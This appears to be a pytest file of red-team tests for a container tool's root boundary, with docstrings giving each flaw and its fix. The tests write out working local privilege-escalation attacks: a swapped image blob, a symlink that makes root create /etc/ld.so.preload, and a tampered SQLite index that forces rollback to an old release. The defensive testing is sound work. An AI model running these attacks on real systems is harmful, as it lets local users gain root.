"""Red-team attacks on the root boundary that WORK on the code under review (issue #10 follow-up).

Each test makes the attack as the real unprivileged user in group rkt (through an
unprivileged ``/bin/sh``, so not even the exec'd path is resolved with root's rights), then
runs the ordinary root command, and asserts what a fixed trustd must guarantee. They FAIL
today; each docstring says what is wrong and the fix.
"""

from __future__ import annotations

import io
import os
import sqlite3
import subprocess
import tarfile
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests._busybox import busybox_aci
from tests.conftest import ConfigDirs, Keys
from tests.integration.conftest import NAME, ensure_user, rkt


def as_member(script: str) -> subprocess.CompletedProcess[str]:
    """``script`` in an unprivileged shell as trustd-it-user:rkt; it must succeed."""
    user = ensure_user()
    result = subprocess.run(
        [
            "setpriv",
            f"--reuid={user}",
            "--regid=rkt",
            "--init-groups",
            "--",
            "/bin/sh",
            "-c",
            script,
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    return result


def _digest(dirs: ConfigDirs, key: str) -> str:
    conn = sqlite3.connect(dirs.data / "cas/db/index.sqlite")
    try:
        (digest,) = conn.execute("SELECT digest FROM images WHERE key = ?", (key,)).fetchone()
    finally:
        conn.close()
    return str(digest)


def _blob(dirs: ConfigDirs, key: str) -> Path:
    return dirs.data / "cas/blob/sha512" / key[7:9] / key


def _swap_blob(dirs: ConfigDirs, key: str, data: bytes, scratch: Path) -> None:
    """The group replaces the stored archive of ``key`` (the file is 0440, its directory
    is group-writable: remove-and-rename)."""
    del scratch  # pytest's tmp_path is root-only: stage beside the data dir (0755)
    src = dirs.data.parent / "swap.bin"
    src.write_bytes(data)
    src.chmod(0o644)
    blob = _blob(dirs, key)
    as_member(f"cp '{src}' '{blob}/.new' && mv -f '{blob}/.new' '{blob}/image.aci'")


def _evil_tar(first_name: str) -> bytes:
    """A plain tar whose first header starts with ``first_name`` then NUL bytes: the format
    of /etc/ld.so.preload (glibc stops at the first NUL, splits on whitespace and ':')."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo(first_name)
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    return buf.getvalue()


@pytest.fixture
def root_only() -> Iterator[Path]:
    """A root-only directory (0700 root:root): nothing another user may create in it."""
    base = Path(tempfile.mkdtemp(prefix="trustd-red-victim-", dir="/tmp"))
    base.chmod(0o700)
    yield base
    subprocess.run(["rm", "-rf", str(base)], check=False)


@pytest.fixture
def sticky_tmp() -> Iterator[Path]:
    """A world-writable sticky directory like /tmp (where admins export to)."""
    base = Path(tempfile.mkdtemp(prefix="trustd-red-sticky-", dir="/tmp"))
    base.chmod(0o1777)
    yield base
    subprocess.run(["rm", "-rf", str(base)], check=False)


def test_root_image_export_writes_only_bytes_that_hash_to_the_id(
    shared_dirs: ConfigDirs, image: str, tmp_path: Path
) -> None:
    """WORKS TODAY. ``rkt image export ID OUT`` as root copies ``cas/blob/.../image.aci``
    (safely, beneath the cas fd) but never checks that the copy hashes to ID: a member of group
    rkt who swapped the blob gets root to emit the member's bytes as image ID (export even
    re-checks nothing about the signature). Fix: hash the private copy (inspect_aci /
    readmit_key's hash check) against the full ID before writing OUT, and refuse otherwise."""
    evil = _evil_tar("rootfs/planted")
    _swap_blob(shared_dirs, image, evil, tmp_path)
    out = tmp_path / "exported.aci"
    result = rkt(shared_dirs, "image", "export", image, str(out))
    assert result.returncode == 254, "root exported an archive that does not hash to the ID"
    assert not out.exists() or out.read_bytes() != evil


def test_root_image_export_never_writes_through_a_planted_symlink(
    shared_dirs: ConfigDirs, image: str, root_only: Path, sticky_tmp: Path, tmp_path: Path
) -> None:
    """WORKS TODAY (with fs.protected_symlinks=0, as on this host, or any OUT in a directory
    another user can write). ``args.output.exists()`` follows the link (a dangling one says
    no) and ``open("wb")`` creates the link's target as root: any local user who plants
    ``OUT -> /etc/ld.so.preload`` makes root create that file. Combined with the blob swap
    above, its content starts with a name the member chose followed by NUL ("/tmp/evil.so"),
    which glibc preloads into every process, setuid ones included: root. Fix: open OUT with
    O_NOFOLLOW|O_CREAT|O_EXCL (or write a temp file beside it and rename), refuse an OUT whose
    directory is writable by others unless sticky-and-ours; verify the bytes (test above)."""
    victim = root_only / "ld.so.preload"
    _swap_blob(shared_dirs, image, _evil_tar("/tmp/evil.so\n"), tmp_path)
    out = sticky_tmp / "busybox.aci"
    as_member(f"ln -s '{victim}' '{out}'")
    rkt(shared_dirs, "image", "export", image, str(out))
    assert not victim.exists(), (
        f"root created {victim} through a user's symlink: {victim.read_bytes()[:32]!r}"
    )


def test_an_unversioned_name_runs_the_newest_image_root_fetched_not_the_groups_pick(
    shared_dirs: ConfigDirs, keys: Keys, tmp_path: Path
) -> None:
    """WORKS TODAY. ``rkt run NAME`` (no version) resolves NAME to "the newest import" in the
    group-writable index (import_time), and root's check is only that the verified manifest
    says NAME: a member rewrites import_time (or fetches an old, validly signed, vulnerable
    release themselves) and root runs that rollback. Fix: root keeps its own record of which
    image it fetched last per name (private/), or refuses an unversioned name that the index
    maps to more than one image, or resolves names with the group out of the loop (e.g. the
    fetch child's hashed result of a fresh fetch)."""
    require_root_env = subprocess.run(["bash", "scripts/setup-groups.sh"], check=True)
    assert require_root_env.returncode == 0
    key = tmp_path / "k.asc"
    key.write_bytes(keys.public(keys.good))
    rkt(
        shared_dirs,
        "trust",
        "--prefix",
        "example.com",
        "--skip-fingerprint-review",
        str(key),
        check=True,
    )
    ids = {}
    for version in ("1.0.0", "2.0.0"):  # the old release first, then the fixed one
        aci = busybox_aci(
            tmp_path / f"bb-{version}.aci",
            NAME,
            version=version,
            files={"release": version.encode() + b"\n"},
        )
        keys.gpg.sign(keys.good, aci, Path(f"{aci}.asc"))
        ids[version] = rkt(shared_dirs, "fetch", "--full", str(aci), check=True).stdout.strip()
    db = shared_dirs.data / "cas/db/index.sqlite"
    as_member(
        f"sqlite3 '{db}' \"UPDATE images SET import_time = '2999-01-01T00:00:00+00:00' "
        f"WHERE key = '{ids['1.0.0']}'\""
    )
    result = rkt(shared_dirs, "run", NAME, "--exec=/bin/cat", "--", "/release")
    assert result.returncode == 0, result.stderr
    assert result.stdout.split()[-1:] == ["2.0.0"], (
        f"root ran the release the group picked: {result.stdout!r}"
    )
